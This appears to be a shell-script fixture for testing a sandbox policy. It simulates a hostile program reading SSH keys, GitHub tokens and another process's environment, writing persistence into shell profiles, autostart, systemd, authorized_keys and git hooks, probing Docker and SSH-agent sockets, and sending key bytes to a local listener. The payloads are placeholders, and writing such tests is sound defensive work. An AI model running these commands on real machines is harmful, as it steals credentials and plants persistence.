# What a hostile part of a program would try. The test looks at what came of it: at files,
# and at what the listeners at the sockets saw.
set -u
cat "$HOME/.ssh/id_ed25519" >>"$TMPDIR/key"
cat "$HOME/.config/gh/hosts.yml" >>"$TMPDIR/token"
ln "$HOME/.ssh/id_ed25519" "$TMPDIR/hard" && cat "$TMPDIR/hard" >>"$TMPDIR/key"
ln -s "$HOME/.ssh" "$TMPDIR/link" && cat "$TMPDIR/link/id_ed25519" >>"$TMPDIR/key"

# The environment of a process that the policy does not hold.
cat "/proc/$OUTSIDE/environ" >>"$TMPDIR/environment"

echo evil >>"$HOME/.profile"
echo evil >"$HOME/.bash_profile"
mkdir -p "$HOME/.config/autostart" && echo evil >"$HOME/.config/autostart/evil.desktop"
mkdir -p "$HOME/.config/systemd/user" && echo evil >"$HOME/.config/systemd/user/evil.service"
echo evil >"$HOME/.ssh/authorized_keys"

mkdir -p "$PROJECT/.git/hooks" && echo evil >"$PROJECT/.git/hooks/pre-commit"
git -C "$PROJECT" config core.hooksPath evil
# A hook that comes with a directory.
mkdir -p "$PROJECT/new/hooks" && echo evil >"$PROJECT/new/hooks/pre-commit" &&
	mkdir -p "$PROJECT/nested" && mv "$PROJECT/new" "$PROJECT/nested/.git"

curl -s --max-time 5 --unix-socket "$DOCKER" http://docker/containers/json
curl -s --max-time 5 --unix-socket "$SSH_AUTH_SOCK" http://agent/
curl -s --max-time 5 --abstract-unix-socket "$ABSTRACT" http://abstract/
curl -s --max-time 5 "http://127.0.0.1:$PORT/$(head -c 3 "$TMPDIR/key")"

# These a policy may let go.
cat "$PROJECT/.env" >>"$TMPDIR/env"
mkdir -p "$PROJECT/.vscode" && echo evil >"$PROJECT/.vscode/tasks.json"
echo evil >"$PROJECT/.envrc"
mv "$PROJECT/.git" "$PROJECT/away" && mv "$PROJECT/away" "$PROJECT/.git" && echo moved >"$TMPDIR/moved"
echo /elsewhere >"$PROJECT/.git/commondir"
: # whatever came of it
